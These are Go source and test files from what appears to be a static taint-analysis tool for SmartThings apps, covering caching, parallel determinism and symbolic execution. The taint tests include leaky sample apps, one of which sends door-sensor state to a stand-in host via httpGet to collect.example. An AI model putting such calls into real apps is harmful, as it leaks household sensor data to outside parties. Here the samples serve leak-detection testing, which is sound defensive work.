// Stats reports the cache's counters and entry counts.
func (c *Cache) Stats() CacheStats {
	if c == nil {
		return CacheStats{}
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return CacheStats{
		Hits:      c.hits.Load(),
		Misses:    c.misses.Load(),
		Evictions: c.evictions.Load(),
		IREntries: len(c.ir),
		Analyses:  len(c.an),
	}
}

// Len reports the number of cached IR and analysis entries, for tests
// and instrumentation.
func (c *Cache) Len() (irEntries, analyses int) {
	if c == nil {
		return 0, 0
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.ir), len(c.an)
}
