package core

import (
	"context"
	"fmt"
	"strings"
	"testing"
)

// Leaky fixtures for the taint determinism tests, chosen to exercise
// distinct flow shapes (direct, state-hop, helper) and channels so the
// rendered reports have enough structure for ordering bugs to show.
const (
	parTaintSms = `
definition(name: "par-sms", namespace: "t", author: "t")
preferences {
    section("Devices") { input "kids", "capability.presenceSensor" }
}
def installed() { subscribe(kids, "presence.not present", h) }
def h(evt) {
    sendSms("555-0100", "left: ${evt.displayName}")
}
`
	parTaintHop = `
definition(name: "par-hop", namespace: "t", author: "t")
preferences {
    section("Devices") { input "door", "capability.contactSensor" }
}
def installed() { subscribe(door, "contact", h) }
def h(evt) {
    state.last = "door ${evt.value}"
    httpGet("http://collect.example/?d=${state.last}")
}
`
	parTaintHelper = `
definition(name: "par-helper", namespace: "t", author: "t")
preferences {
    section("Devices") { input "leak", "capability.waterSensor" }
}
def installed() { subscribe(leak, "water.wet", h) }
def h(evt) {
    relay("mode ${location.mode}: ${evt.displayName}")
}
def relay(m) {
    sendPush(m)
}
`
	parTaintClean = `
definition(name: "par-clean", namespace: "t", author: "t")
preferences {
    section("Devices") { input "kids", "capability.presenceSensor" }
}
def installed() { subscribe(kids, "presence", h) }
def h(evt) {
    sendSms("555-0100", redact("seen ${evt.displayName}"))
}
`
)

// renderTaint flattens every field of an analysis's taint flows —
// including witness lines — into one string; byte-identical renderings
// mean identical ordered flow reports.
func renderTaint(a *Analysis) string {
	var b strings.Builder
	for _, f := range a.TaintFlows {
		fmt.Fprintf(&b, "%s|%s|%s|%s|%s|%s|%s|%s|%s|%d|%s\n",
			f.ID, f.App, f.Handler, f.Event, f.Source, f.SourceClass,
			f.Via, f.Sink, f.Channel, f.Line, f.Condition)
		for _, w := range f.Witness {
			fmt.Fprintf(&b, "  %s\n", w)
		}
	}
	return b.String()
}

// TestParallelTaintSweepIdentical requires the taint section of a
// multi-app analysis to be byte-identical between the sequential sweep
// and property-parallel sweeps: same flows, same order, same rendered
// witnesses. (The CI race step runs this under -race.)
func TestParallelTaintSweepIdentical(t *testing.T) {
	sources := []NamedSource{
		{Name: "par-sms", Source: parTaintSms},
		{Name: "par-hop", Source: parTaintHop},
		{Name: "par-helper", Source: parTaintHelper},
		{Name: "par-clean", Source: parTaintClean},
	}
	seq, err := AnalyzeSources(Options{General: true, AppSpecific: true, Taint: true}, sources...)
	if err != nil {
		t.Fatal(err)
	}
	if len(seq.TaintFlows) < 3 {
		t.Fatalf("fixtures produced %d flows, want >= 3: %s", len(seq.TaintFlows), renderTaint(seq))
	}
	for _, workers := range []int{2, 8} {
		par, err := AnalyzeSources(Options{General: true, AppSpecific: true, Taint: true, Parallel: workers}, sources...)
		if err != nil {
			t.Fatal(err)
		}
		if renderTaint(seq) != renderTaint(par) {
			t.Errorf("parallel=%d taint flows diverge from sequential:\nseq:\n%spar:\n%s",
				workers, renderTaint(seq), renderTaint(par))
		}
	}
}

// TestParallelTaintBatchDeterministic pushes the taint family through
// AnalyzeBatch with concurrent workers and diffs each item's rendered
// flow section against a sequential run of the same batch — the
// determinism contract -parallel and the sharded daemons rely on.
func TestParallelTaintBatchDeterministic(t *testing.T) {
	items := []BatchItem{
		{Key: "sms", Sources: []NamedSource{{Name: "par-sms", Source: parTaintSms}}},
		{Key: "hop", Sources: []NamedSource{{Name: "par-hop", Source: parTaintHop}}},
		{Key: "helper", Sources: []NamedSource{{Name: "par-helper", Source: parTaintHelper}}},
		{Key: "clean", Sources: []NamedSource{{Name: "par-clean", Source: parTaintClean}}},
		{Key: "sms-again", Sources: []NamedSource{{Name: "par-sms", Source: parTaintSms}}},
	}
	opts := DefaultOptions()
	seq := AnalyzeBatch(context.Background(), BatchOptions{Options: opts, Parallel: 1}, items...)
	par := AnalyzeBatch(context.Background(), BatchOptions{Options: opts, Parallel: 4, Cache: NewCache()}, items...)
	if len(seq) != len(items) || len(par) != len(items) {
		t.Fatalf("results = %d/%d, want %d", len(seq), len(par), len(items))
	}
	for i := range items {
		if seq[i].Err != nil || par[i].Err != nil {
			t.Fatalf("%s: seq err %v, par err %v", items[i].Key, seq[i].Err, par[i].Err)
		}
		s, p := renderTaint(seq[i].Analysis), renderTaint(par[i].Analysis)
		if s != p {
			t.Errorf("%s: batch taint flows diverge:\nseq:\n%spar:\n%s", items[i].Key, s, p)
		}
	}
	if renderTaint(seq[0].Analysis) == "" {
		t.Error("sms fixture produced no flows")
	}
	if renderTaint(seq[3].Analysis) != "" {
		t.Errorf("clean fixture produced flows:\n%s", renderTaint(seq[3].Analysis))
	}
	if renderTaint(par[0].Analysis) != renderTaint(par[4].Analysis) {
		t.Error("identical items produced different taint sections")
	}
}
