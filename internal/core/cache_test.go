package core

import (
	"fmt"
	"sync"
	"testing"
)

func TestSourceHashBoundaries(t *testing.T) {
	// Length prefixing: moving a byte across the name/source boundary
	// must change the hash.
	a := SourceHash(NamedSource{Name: "ab", Source: "c"})
	b := SourceHash(NamedSource{Name: "a", Source: "bc"})
	if a == b {
		t.Fatal("name/source boundary does not affect SourceHash")
	}
	if a != SourceHash(NamedSource{Name: "ab", Source: "c"}) {
		t.Fatal("SourceHash is not deterministic")
	}
}

func TestAnalysisKeyOptionSensitivity(t *testing.T) {
	srcs := []NamedSource{{Name: "x", Source: "y"}}
	base := DefaultOptions()
	key := AnalysisKey(srcs, base)

	general := base
	general.AppSpecific = false
	if AnalysisKey(srcs, general) == key {
		t.Fatal("property-family selection does not affect AnalysisKey")
	}
	filtered := base
	filtered.PropertyIDs = []string{"P.1"}
	if AnalysisKey(srcs, filtered) == key {
		t.Fatal("property filter does not affect AnalysisKey")
	}
	limited := base
	limited.Limits.MaxStates = 7
	if AnalysisKey(srcs, limited) == key {
		t.Fatal("resource limits do not affect AnalysisKey")
	}
	// Parallelism must NOT affect the key: parallel and sequential runs
	// produce identical verdicts, so they share a content address.
	par := base
	par.Parallel = 8
	if AnalysisKey(srcs, par) != key {
		t.Fatal("Parallel leaked into AnalysisKey")
	}
}

func TestCacheStatsCounters(t *testing.T) {
	c := NewCache()
	if _, ok := c.LookupAnalysis("k"); ok {
		t.Fatal("empty cache reported a hit")
	}
	c.StoreAnalysis("k", &Analysis{Checked: []string{"S.1"}})
	if _, ok := c.LookupAnalysis("k"); !ok {
		t.Fatal("stored analysis not found")
	}
	// Incomplete and nil analyses are never cached.
	c.StoreAnalysis("partial", &Analysis{Incomplete: true})
	c.StoreAnalysis("nil", nil)
	if _, ok := c.LookupAnalysis("partial"); ok {
		t.Fatal("incomplete analysis was cached")
	}

	st := c.Stats()
	if st.Hits != 1 || st.Misses != 2 || st.Evictions != 0 {
		t.Fatalf("stats = %+v, want 1 hit, 2 misses, 0 evictions", st)
	}
	if st.Analyses != 1 {
		t.Fatalf("stats.Analyses = %d, want 1", st.Analyses)
	}
}

func TestCacheBoundedEviction(t *testing.T) {
	c := NewCacheBounded(2)
	for i := 0; i < 4; i++ {
		c.StoreAnalysis(fmt.Sprintf("k%d", i), &Analysis{})
	}
	st := c.Stats()
	if st.Analyses != 2 || st.Evictions != 2 {
		t.Fatalf("stats = %+v, want 2 analyses, 2 evictions", st)
	}
	// Oldest entries evicted, newest retained.
	if _, ok := c.LookupAnalysis("k0"); ok {
		t.Fatal("k0 survived eviction")
	}
	if _, ok := c.LookupAnalysis("k3"); !ok {
		t.Fatal("k3 was evicted")
	}
	// A lookup refreshes recency: after touching k2, storing k4 evicts
	// k3 (now least recent), and storing k5 evicts k2.
	c.LookupAnalysis("k2")
	c.StoreAnalysis("k4", &Analysis{})
	if _, ok := c.LookupAnalysis("k3"); ok {
		t.Fatal("k3 outlived the refreshed k2")
	}
	c.StoreAnalysis("k5", &Analysis{})
	if _, ok := c.LookupAnalysis("k2"); ok {
		t.Fatal("k2 survived past the bound")
	}
	if _, ok := c.LookupAnalysis("k5"); !ok {
		t.Fatal("most recent entry k5 was evicted")
	}
}

func TestCacheNilSafety(t *testing.T) {
	var c *Cache
	if _, ok := c.LookupAnalysis("k"); ok {
		t.Fatal("nil cache reported a hit")
	}
	c.StoreAnalysis("k", &Analysis{}) // must not panic
	if st := c.Stats(); st != (CacheStats{}) {
		t.Fatalf("nil cache stats = %+v, want zero", st)
	}
	if irs, ans := c.Len(); irs != 0 || ans != 0 {
		t.Fatal("nil cache reports entries")
	}
	if _, err := c.ParseSource(NamedSource{Name: "x", Source: "definition(name: \"x\")\n"}); err != nil {
		t.Fatalf("nil cache ParseSource: %v", err)
	}
}

func TestCacheConcurrentAccess(t *testing.T) {
	c := NewCacheBounded(8)
	var wg sync.WaitGroup
	for g := 0; g < 8; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				key := fmt.Sprintf("k%d", (g+i)%16)
				if an, ok := c.LookupAnalysis(key); ok && an == nil {
					t.Error("hit returned nil analysis")
					return
				}
				c.StoreAnalysis(key, &Analysis{Checked: []string{key}})
			}
		}(g)
	}
	wg.Wait()
	st := c.Stats()
	if st.Analyses > 8 {
		t.Fatalf("bound violated: %d analyses cached (max 8)", st.Analyses)
	}
	if st.Hits+st.Misses == 0 {
		t.Fatal("no lookups recorded")
	}
}

// TestResultCacheCompliance pins the interface: both the in-process
// cache and a nil cache must satisfy ResultCache semantics through the
// interface (including the typed-nil case BatchOptions can produce).
func TestResultCacheCompliance(t *testing.T) {
	var rc ResultCache = (*Cache)(nil)
	if _, ok := rc.LookupAnalysis("k"); ok {
		t.Fatal("typed-nil cache reported a hit")
	}
	rc.StoreAnalysis("k", &Analysis{})
	_ = rc.Stats()

	rc = NewCache()
	rc.StoreAnalysis("k", &Analysis{})
	if _, ok := rc.LookupAnalysis("k"); !ok {
		t.Fatal("interface-wrapped cache lost its entry")
	}
}
