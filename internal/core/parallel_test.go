package core

import (
	"context"
	"fmt"
	"reflect"
	"strings"
	"testing"

	"github.com/soteria-analysis/soteria/internal/guard/faultinject"
	"github.com/soteria-analysis/soteria/internal/paperapps"
)

// TestParallelPropertyFilterDispatch observes — via fault-injection
// site counters — that a PropertyIDs filter is applied before
// dispatch: only the requested properties ever reach the checker, and
// Checked reflects the filter.
func TestParallelPropertyFilterDispatch(t *testing.T) {
	defer faultinject.Reset()
	faultinject.BeginCount()
	a, err := AnalyzeSources(Options{AppSpecific: true, PropertyIDs: []string{"P.10"}},
		NamedSource{Name: "buggy", Source: paperapps.BuggySmokeAlarm})
	if err != nil {
		t.Fatal(err)
	}
	counts := faultinject.TakeCounts()

	dispatched := map[string]bool{}
	for k := range counts {
		site, id, ok := strings.Cut(k, "|")
		if ok && site == faultinject.SiteProperty {
			dispatched[id] = true
		}
	}
	if len(dispatched) == 0 {
		t.Fatal("no property dispatches observed")
	}
	for id := range dispatched {
		if id != "P.10" {
			t.Errorf("property %s dispatched despite PropertyIDs=[P.10]", id)
		}
	}
	if len(a.Checked) != 1 || a.Checked[0] != "P.10" {
		t.Errorf("Checked = %v, want [P.10]", a.Checked)
	}
	for _, v := range a.Violations {
		if v.ID != "P.10" {
			t.Errorf("unexpected violation %v", v)
		}
	}
	if len(a.Violations) == 0 {
		t.Error("P.10 should be flagged")
	}
}

// TestParallelPropertySweepIdentical runs the same analysis
// sequentially and with property workers and requires identical
// violations, Checked lists, and verdict ordering.
func TestParallelPropertySweepIdentical(t *testing.T) {
	sources := []NamedSource{
		{Name: "buggy", Source: paperapps.BuggySmokeAlarm},
		{Name: "water-leak", Source: paperapps.WaterLeakDetector},
	}
	seq, err := AnalyzeSources(Options{General: true, AppSpecific: true}, sources...)
	if err != nil {
		t.Fatal(err)
	}
	for _, workers := range []int{2, 8} {
		par, err := AnalyzeSources(Options{General: true, AppSpecific: true, Parallel: workers}, sources...)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(render(seq), render(par)) {
			t.Errorf("parallel=%d diverges from sequential:\nseq: %s\npar: %s",
				workers, render(seq), render(par))
		}
		if !reflect.DeepEqual(seq.Checked, par.Checked) {
			t.Errorf("parallel=%d Checked = %v, want %v", workers, par.Checked, seq.Checked)
		}
		if !reflect.DeepEqual(seq.ViolatedIDs(), par.ViolatedIDs()) {
			t.Errorf("parallel=%d ViolatedIDs = %v, want %v", workers, par.ViolatedIDs(), seq.ViolatedIDs())
		}
	}
}

// render flattens an analysis's violations into a canonical string —
// byte-identical renderings mean identical ordered reports.
func render(a *Analysis) string {
	var b strings.Builder
	for _, v := range a.Violations {
		fmt.Fprintf(&b, "%s|%s|%s\n", v.ID, v.Detail, v.Counterexample)
	}
	return b.String()
}

// TestParallelBatchOrderAndCache exercises AnalyzeBatch end to end:
// results arrive in input order, identical items hit the memoizing
// cache, and verdicts match single analyses.
func TestParallelBatchOrderAndCache(t *testing.T) {
	cache := NewCache()
	items := []BatchItem{
		{Key: "buggy", Sources: []NamedSource{{Name: "buggy", Source: paperapps.BuggySmokeAlarm}}},
		{Key: "clean", Sources: []NamedSource{{Name: "smoke-alarm", Source: paperapps.SmokeAlarm}}},
		{Key: "buggy-again", Sources: []NamedSource{{Name: "buggy", Source: paperapps.BuggySmokeAlarm}}},
	}
	bo := BatchOptions{Options: DefaultOptions(), Parallel: 3, Cache: cache}
	results := AnalyzeBatch(context.Background(), bo, items...)
	if len(results) != 3 {
		t.Fatalf("results = %d", len(results))
	}
	for i, r := range results {
		if r.Key != items[i].Key {
			t.Errorf("result %d key = %s, want %s", i, r.Key, items[i].Key)
		}
		if r.Err != nil {
			t.Errorf("%s: %v", r.Key, r.Err)
		}
	}
	if len(results[0].Analysis.Violations) == 0 {
		t.Error("buggy app should have violations")
	}
	if len(results[1].Analysis.Violations) != 0 {
		t.Errorf("clean app violations = %v", results[1].Analysis.Violations)
	}
	if render(results[0].Analysis) != render(results[2].Analysis) {
		t.Error("identical items should produce identical analyses")
	}

	// A second pass over the same items must be served from the cache.
	again := AnalyzeBatch(context.Background(), bo, items...)
	for _, r := range again {
		if !r.Cached {
			t.Errorf("%s: expected cache hit", r.Key)
		}
	}
	if _, analyses := cache.Len(); analyses != 2 {
		t.Errorf("cached analyses = %d, want 2 (buggy and clean)", analyses)
	}
}

// TestParallelBatchParseError verifies a hard per-item failure is
// reported on that item only.
func TestParallelBatchParseError(t *testing.T) {
	items := []BatchItem{
		{Key: "bad", Sources: []NamedSource{{Name: "bad", Source: "def h() { if ( }"}}},
		{Key: "good", Sources: []NamedSource{{Name: "smoke-alarm", Source: paperapps.SmokeAlarm}}},
	}
	results := AnalyzeBatch(context.Background(), BatchOptions{Options: DefaultOptions(), Parallel: 2}, items...)
	if results[0].Err == nil {
		t.Error("bad item should fail")
	}
	if results[1].Err != nil || results[1].Analysis == nil {
		t.Errorf("good item should succeed: %+v", results[1])
	}
}

// TestParallelBatchCancellation verifies canceled contexts surface as
// per-item errors rather than hanging or panicking.
func TestParallelBatchCancellation(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	items := []BatchItem{
		{Key: "a", Sources: []NamedSource{{Name: "smoke-alarm", Source: paperapps.SmokeAlarm}}},
	}
	results := AnalyzeBatch(ctx, BatchOptions{Options: DefaultOptions(), Parallel: 2}, items...)
	if results[0].Err == nil && (results[0].Analysis == nil || !results[0].Analysis.Incomplete) {
		t.Errorf("canceled batch should degrade: %+v", results[0])
	}
}
