package symexec

import (
	"fmt"

	"github.com/soteria-analysis/soteria/internal/groovy"
	"github.com/soteria-analysis/soteria/internal/ir"
	"github.com/soteria-analysis/soteria/internal/pathcond"
)

// out pairs a path state with the value an expression evaluated to on
// that path (expression evaluation can fork paths when it inlines
// method calls containing branches, or crosses a reflection site).
type out struct {
	p *pstate
	v Value
}

func dropVals(outs []out) []*pstate {
	ps := make([]*pstate, len(outs))
	for i, o := range outs {
		ps[i] = o.p
	}
	return ps
}

func one(p *pstate, v Value) []out { return []out{{p: p, v: v}} }

// eval evaluates e on path p, recording device actions as side effects
// and possibly forking the path.
func (x *executor) eval(e groovy.Expr, p *pstate) []out {
	switch ex := e.(type) {
	case *groovy.NumberLit:
		return one(p, NumVal(ex.Value))
	case *groovy.StringLit:
		return one(p, StrVal(ex.Value))
	case *groovy.BoolLit:
		return one(p, BoolVal(ex.Value))
	case *groovy.NullLit:
		return one(p, Value{Kind: KNull})
	case *groovy.GStringLit:
		return one(p, x.evalGString(ex, p))
	case *groovy.Ident:
		return one(p, x.evalIdent(ex, p))
	case *groovy.PropExpr:
		return one(p, x.evalProp(ex, p))
	case *groovy.IndexExpr:
		return one(p, SymVal(groovy.Format(ex), pathcond.UnknownSource))
	case *groovy.ListLit:
		// Opaque as a value, but element taint flows into the list
		// (lists are passed whole into sinks: sendSms body lists,
		// httpPost params).
		v := SymVal(groovy.Format(ex), pathcond.UnknownSource)
		sets := make([][]Label, 0, len(ex.Elems))
		for _, el := range ex.Elems {
			sets = append(sets, x.evalPure(el, p).Labels())
		}
		v.Taint = unionLabels(sets...)
		return one(p, v)
	case *groovy.MapLit:
		// Same for map values ([uri: "...", body: evt.value]).
		v := SymVal(groovy.Format(ex), pathcond.UnknownSource)
		sets := make([][]Label, 0, len(ex.Entries))
		for _, en := range ex.Entries {
			sets = append(sets, x.evalPure(en.Value, p).Labels())
		}
		v.Taint = unionLabels(sets...)
		return one(p, v)
	case *groovy.ClosureLit:
		return one(p, SymVal(groovy.Format(ex), pathcond.UnknownSource))
	case *groovy.NewExpr:
		return one(p, SymVal("new "+ex.Type, pathcond.UnknownSource))
	case *groovy.UnaryExpr:
		return x.evalUnary(ex, p)
	case *groovy.BinaryExpr:
		return x.evalBinary(ex, p)
	case *groovy.TernaryExpr:
		taken, notTaken := x.branch(ex.Cond, p)
		var outs []out
		if taken != nil {
			outs = append(outs, x.eval(ex.Then, taken)...)
		}
		if notTaken != nil {
			outs = append(outs, x.eval(ex.Else, notTaken)...)
		}
		return outs
	case *groovy.ElvisExpr:
		// v ?: d — at install time required inputs are set, so prefer
		// the value side unless it is concretely null.
		outs := x.eval(ex.Value, p)
		var res []out
		for _, o := range outs {
			if o.v.Kind == KNull {
				res = append(res, x.eval(ex.Default, o.p)...)
			} else {
				res = append(res, o)
			}
		}
		return res
	case *groovy.CallExpr:
		return x.evalCall(ex, p)
	}
	return one(p, SymVal(groovy.Format(e), pathcond.UnknownSource))
}

// evalPure evaluates without committing side effects or forks; used to
// decide branch conditions. If evaluation forks, the value is
// conservatively symbolic.
func (x *executor) evalPure(e groovy.Expr, p *pstate) Value {
	outs := x.eval(e, p.clone())
	if len(outs) == 1 {
		return outs[0].v
	}
	return SymVal(groovy.Format(e), pathcond.UnknownSource)
}

func (x *executor) evalIdent(id *groovy.Ident, p *pstate) Value {
	if v, ok := p.lookup(id.Name); ok {
		return v
	}
	if perm, ok := x.app.PermissionByHandle(id.Name); ok {
		if perm.Kind == ir.UserInput {
			return SymVal(id.Name, pathcond.UserDefined)
		}
		return SymVal(id.Name, pathcond.DeviceState)
	}
	switch id.Name {
	case "location", "state", "atomicState", "settings", "app", "log":
		return SymVal(id.Name, pathcond.DeviceState)
	}
	return SymVal(id.Name, pathcond.UnknownSource)
}

func (x *executor) evalProp(pe *groovy.PropExpr, p *pstate) Value {
	// Persistent state fields, with writes visible via the env.
	if f, ok := ir.StateFieldRef(pe); ok {
		if v, found := p.lookup("state." + f); found {
			return v
		}
		return SymVal("state."+f, pathcond.StateVariable)
	}
	// Device attribute reads: dev.currentTemperature and friends.
	if h, attr, ok := ir.DeviceRead(x.app, pe); ok {
		return SymVal(h+"."+attr, pathcond.DeviceState)
	}
	// Event object fields.
	if recvV := x.evalPure(pe.Recv, p); recvV.Kind == KSym {
		if recvV.Sym == "evt" {
			return SymVal("evt."+pe.Name, pathcond.DeviceState)
		}
		// location.mode: the abstract mode attribute.
		if recvV.Sym == "location" && pe.Name == "mode" {
			return SymVal("location.mode", pathcond.DeviceState)
		}
		// Conversion wrappers keep the underlying symbol.
		switch pe.Name {
		case "integerValue", "floatValue", "doubleValue", "value", "toInteger":
			return recvV
		}
		return SymVal(recvV.Sym+"."+pe.Name, pathcond.UnknownSource)
	}
	return SymVal(groovy.Format(pe), pathcond.UnknownSource)
}

func (x *executor) evalGString(g *groovy.GStringLit, p *pstate) Value {
	if s, static := g.StaticText(); static {
		return StrVal(s)
	}
	// Interpolated: concrete only if all parts are concrete. Every part
	// is evaluated regardless so a symbolic result carries the union of
	// the parts' taint marks ("${evt.displayName} left" is as sensitive
	// as evt.displayName itself).
	var sb []byte
	concrete := true
	var sets [][]Label
	for _, part := range g.Parts {
		if !part.IsExpr {
			sb = append(sb, part.Text...)
			continue
		}
		v := x.evalPure(part.Expr, p)
		sets = append(sets, v.Labels())
		switch v.Kind {
		case KStr:
			sb = append(sb, v.Str...)
		case KNum:
			sb = append(sb, fmt.Sprintf("%g", v.Num)...)
		default:
			concrete = false
		}
	}
	if concrete {
		return StrVal(string(sb))
	}
	v := SymVal(`"`+g.Raw+`"`, pathcond.UnknownSource)
	v.Taint = unionLabels(sets...)
	return v
}

func (x *executor) evalUnary(u *groovy.UnaryExpr, p *pstate) []out {
	outs := x.eval(u.X, p)
	for i := range outs {
		v := outs[i].v
		switch u.Op {
		case groovy.MINUS:
			if v.Kind == KNum {
				outs[i].v = NumVal(-v.Num)
			} else {
				nv := SymVal("-"+v.Label(), pathcond.UnknownSource)
				nv.Taint = v.Labels()
				outs[i].v = nv
			}
		case groovy.NOT:
			if v.Kind == KBool {
				outs[i].v = BoolVal(!v.Bool)
			} else {
				nv := SymVal("!"+v.Label(), pathcond.UnknownSource)
				nv.Taint = v.Labels()
				outs[i].v = nv
			}
		}
	}
	return outs
}

func (x *executor) evalBinary(b *groovy.BinaryExpr, p *pstate) []out {
	louts := x.eval(b.L, p)
	var res []out
	for _, lo := range louts {
		routs := x.eval(b.R, lo.p)
		for _, ro := range routs {
			res = append(res, out{p: ro.p, v: x.combine(b.Op, lo.v, ro.v, b)})
		}
	}
	return res
}

func (x *executor) combine(op groovy.TokKind, l, r Value, b *groovy.BinaryExpr) Value {
	if l.Kind == KNum && r.Kind == KNum {
		switch op {
		case groovy.PLUS:
			return NumVal(l.Num + r.Num)
		case groovy.MINUS:
			return NumVal(l.Num - r.Num)
		case groovy.STAR:
			return NumVal(l.Num * r.Num)
		case groovy.SLASH:
			if r.Num != 0 {
				return NumVal(l.Num / r.Num)
			}
		case groovy.EQ:
			return BoolVal(l.Num == r.Num)
		case groovy.NEQ:
			return BoolVal(l.Num != r.Num)
		case groovy.LT:
			return BoolVal(l.Num < r.Num)
		case groovy.LEQ:
			return BoolVal(l.Num <= r.Num)
		case groovy.GT:
			return BoolVal(l.Num > r.Num)
		case groovy.GEQ:
			return BoolVal(l.Num >= r.Num)
		}
	}
	if l.Kind == KStr && r.Kind == KStr {
		switch op {
		case groovy.EQ:
			return BoolVal(l.Str == r.Str)
		case groovy.NEQ:
			return BoolVal(l.Str != r.Str)
		case groovy.PLUS:
			return StrVal(l.Str + r.Str)
		}
	}
	if l.Kind == KBool && r.Kind == KBool {
		switch op {
		case groovy.ANDAND:
			return BoolVal(l.Bool && r.Bool)
		case groovy.OROR:
			return BoolVal(l.Bool || r.Bool)
		case groovy.EQ:
			return BoolVal(l.Bool == r.Bool)
		case groovy.NEQ:
			return BoolVal(l.Bool != r.Bool)
		}
	}
	// Symbolic result: data flows through operators ("x" + evt.value),
	// so the operands' taint marks union onto it.
	v := SymVal(groovy.Format(b), pathcond.UnknownSource)
	v.Taint = unionLabels(l.Labels(), r.Labels())
	return v
}

// ---------------------------------------------------------------------------
// Calls

func (x *executor) evalCall(c *groovy.CallExpr, p *pstate) []out {
	// Call by reflection with a non-static callee: fork one path per
	// app method (the paper's over-approximation, §4.2.3).
	if c.Dynamic != nil {
		if gs, ok := c.Dynamic.(*groovy.GStringLit); ok {
			if name, static := gs.StaticText(); static {
				return x.inlineCall(name, c.Args, p)
			}
			// The callee may be a known concrete binding on this path.
			if v := x.evalPure(gs, p); v.Kind == KStr {
				return x.inlineCall(v.Str, c.Args, p)
			}
			// String analysis (§7): bound the target set when every
			// assignment to the interpolated variable is a constant.
			if targets, resolved := ir.ReflectionTargets(x.app, gs); resolved {
				var outs []out
				for _, tgt := range targets {
					if x.app.File.MethodByName(tgt) != nil {
						outs = append(outs, x.inlineCall(tgt, c.Args, p.clone())...)
					}
				}
				if outs != nil {
					return outs
				}
				return one(p, Value{Kind: KNull})
			}
		}
		var outs []out
		for _, m := range x.app.File.Methods {
			outs = append(outs, x.inlineCall(m.Name, c.Args, p.clone())...)
		}
		if outs == nil {
			return one(p, Value{Kind: KNull})
		}
		return outs
	}

	// Device actions. Arguments are evaluated with the forking
	// evaluator so e.g. `setHeatingSetpoint(p > 100 ? 60 : 72)`
	// produces one path per setpoint.
	if perm, cmdName, call, ok := ir.DeviceAction(x.app, c); ok {
		return x.recordAction(perm, cmdName, call, p)
	}

	// Device attribute reads (currentValue etc.).
	if h, attr, ok := ir.DeviceRead(x.app, c); ok {
		return one(p, SymVal(h+"."+attr, pathcond.DeviceState))
	}

	// Free-standing call of an app method: inline it.
	if c.Recv == nil && x.app.File.MethodByName(c.Name) != nil {
		return x.inlineCall(c.Name, c.Args, p)
	}

	// httpGet-style platform calls with trailing closures: execute the
	// closure body (its effects are real; its inputs are symbolic). The
	// call itself may be a transmission sink (httpGet(url){resp -> ...});
	// its arguments are inspected without committing effects so the
	// path structure stays exactly as before.
	if c.Closure != nil && c.Recv == nil {
		if sinkCalls[c.Name] {
			vals := make([]Value, len(c.Args))
			for i, a := range c.Args {
				vals[i] = x.evalPure(a, p)
			}
			recordSink(p, c, vals)
		}
		p.pushFrame()
		for _, param := range c.Closure.Params {
			p.setLocal(param, SymVal(param, pathcond.UnknownSource))
		}
		if len(c.Closure.Params) == 0 {
			p.setLocal("it", SymVal("it", pathcond.UnknownSource))
		}
		outs := x.execBlock(c.Closure.Body, []*pstate{p})
		var res []out
		for _, o := range outs {
			o.popFrame()
			o.ret = nil
			res = append(res, out{p: o, v: SymVal(groovy.Format(c), pathcond.UnknownSource)})
		}
		return res
	}

	// Anything else (platform calls, collection methods) is an opaque
	// symbolic value; arguments are still evaluated for their effects,
	// and their values are kept per path for sink recording and taint
	// propagation.
	argOuts := []out{{p: p}}
	argVals := [][]Value{nil}
	for _, a := range c.Args {
		var next []out
		var nextVals [][]Value
		for i, o := range argOuts {
			for _, r := range x.eval(a, o.p) {
				next = append(next, r)
				nextVals = append(nextVals, append(append([]Value{}, argVals[i]...), r.v))
			}
		}
		argOuts = next
		argVals = nextVals
	}
	for i := range argOuts {
		if c.Recv == nil && sinkCalls[c.Name] {
			recordSink(argOuts[i].p, c, argVals[i])
		}
		v := SymVal(groovy.Format(c), pathcond.UnknownSource)
		if !(c.Recv == nil && sanitizers[c.Name]) {
			// The opaque result derives from its inputs: union the
			// receiver's and arguments' taint marks onto it. Sanitizer
			// calls are the exception — their whole point is returning a
			// scrubbed value.
			sets := make([][]Label, 0, len(argVals[i])+1)
			if c.Recv != nil {
				sets = append(sets, x.evalPure(c.Recv, argOuts[i].p).Labels())
			}
			for _, av := range argVals[i] {
				sets = append(sets, av.Labels())
			}
			v.Taint = unionLabels(sets...)
		}
		argOuts[i].v = v
	}
	return argOuts
}

// sinkCalls names the SmartThings transmission primitives: once data
// reaches one of these, it leaves the hub (SainT's sink set). Payload
// vs recipient argument positions are policy, decided by
// internal/taint; symexec records every argument.
var sinkCalls = map[string]bool{
	"sendSms": true, "sendSmsMessage": true,
	"sendPush": true, "sendPushMessage": true,
	"sendNotification": true, "sendNotificationToContacts": true,
	"sendNotificationEvent": true,
	"httpGet": true, "httpPost": true, "httpPostJson": true,
	"httpPut": true, "httpPutJson": true, "httpDelete": true,
	"httpHead": true,
}

// sanitizers are declassification primitives: their return value is
// derived from sensitive data but deliberately scrubbed, so taint does
// not propagate through them. An app method with one of these names is
// inlined instead (free-standing app-method calls are resolved before
// the opaque fallback), so only platform-level sanitizers clear marks.
var sanitizers = map[string]bool{
	"redact": true, "anonymize": true, "obfuscate": true,
}

// recordSink appends a transmission call to the path's sink log with
// the call-site guard and each argument's rendered value and taint.
func recordSink(p *pstate, c *groovy.CallExpr, vals []Value) {
	s := SinkCall{Name: c.Name, Pos: c.Pos, Guard: p.guard}
	for _, v := range vals {
		s.Args = append(s.Args, SinkArg{Text: v.Label(), Taint: v.Labels()})
	}
	p.sinks = append(p.sinks, s)
}

// recordAction appends the device action's attribute effects to the
// path, forking when the action's argument expression forks.
func (x *executor) recordAction(perm *ir.Permission, cmdName string, call *groovy.CallExpr, p *pstate) []out {
	if perm == nil {
		// Abstract action: setLocationMode(mode).
		if len(call.Args) == 0 {
			return one(p, Value{Kind: KNull})
		}
		outs := x.eval(call.Args[0], p)
		for _, o := range outs {
			o.p.actions = append(o.p.actions, Action{
				Handle: "location", Cap: "location", Attr: "mode",
				Value: o.v.Label(), Symbolic: o.v.Kind == KSym, ValueKind: o.v.SymKind,
				Pos: call.Pos,
			})
		}
		return nullVals(outs)
	}
	cmd, _ := perm.Cap.Command(cmdName)
	addEffects := func(q *pstate) {
		for _, eff := range cmd.Effects {
			q.actions = append(q.actions, Action{
				Handle: perm.Handle, Cap: perm.Cap.Name, Attr: eff.Attr,
